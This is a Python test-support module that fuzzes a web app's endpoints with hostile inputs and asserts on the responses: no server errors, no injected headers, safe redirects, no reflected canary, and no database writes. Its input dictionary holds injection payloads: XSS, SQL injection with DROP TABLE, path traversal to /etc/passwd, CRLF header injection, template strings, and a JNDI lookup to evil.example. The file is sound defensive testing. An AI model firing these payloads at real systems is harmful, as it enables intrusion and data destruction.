"""A guru's site that is sent what nobody should send, and what its answers must not do."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

import orjson
import psycopg

from porchlight.app import Porchlight
from tests.platform_.world import Answered, Told, checksum

CANARY = "canary7f3a"
WORDS: dict[str, str] = {
    "nul": f"{CANARY}\0",
    "script": f"<script>{CANARY}</script>",
    "attribute": f'" onload="{CANARY}',
    "css": f"}}body{{x:{CANARY}",
    "sql": f"' OR '1'='1'; DROP TABLE leads; -- {CANARY}",
    "format": f"%s%n{{0}}{{{{7*7}}}}${{7*7}} {CANARY}",
    "climbing": f"../../../../etc/passwd{CANARY}",
    "long": CANARY + "x" * 200_000,
    "empty": "",
    "space": " ",
    "newline": f"{CANARY}\r\nX-Evil: 1",
    "bidi": f"\u202e{CANARY}\u2066",
    "emoji": f"👩‍👩‍👧‍👦{CANARY}" * 50,
    "zero width": "\u200b\ufeff",
    "combining": "a" + "\u0301" * 5000,
    "number": "9" * 400,
    "minus": "-1",
    "float": "1e400",
    "nan": "NaN",
    "overlong": "\ufffd\ufffd",
    "nonchar": "\uffff\ufffe",
    "percent": "%00%ff%c0%ae%ed%a0%80",
    "dots": "...",
    "slashes": "//" + CANARY,
    "question": f"?{CANARY}#x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "cursor": "A" * 32,
    "null": "null",
    "true": "true",
    "array": "[]",
}


@dataclass
class Target:
    """A guru's site and what is behind it."""

    app: Porchlight
    guru: Told
    conn: psycopg.Connection[Any]

    def unchanged(self, before: dict[str, str]) -> None:
        """Nothing was written."""
        assert checksum(self.conn, self.guru) == before


def check(answer: Answered, path: object, *, api: bool) -> None:
    """No 5xx, no header of the visitor's making, the error's shape, and no echo of what was sent."""
    assert answer.status < 500, (path, answer.status, answer.body[:300])
    names = {name.decode("latin-1").lower() for name, _ in answer.headers}
    assert "x-evil" not in names, path
    for name, value in answer.headers:
        assert b"\n" not in value, (path, name)
        assert b"\r" not in value, (path, name)
    location = answer.header("location")
    assert location is None or re.match(r"/(?![/\\])|http://([a-z]+\.)?porchlight\.localhost[/:]?", location), (
        path,
        location,
    )
    if api and answer.status >= 400:
        body = orjson.loads(answer.body)
        assert body["success"] is False, path
        assert set(body["error"]) <= {"code", "message", "fields"}, path
        assert re.fullmatch(r"[a-z_]+", body["error"]["code"]), path
        assert CANARY.encode() not in answer.body, path
    elif answer.status >= 400:
        assert f"<script>{CANARY}".encode() not in answer.body, path
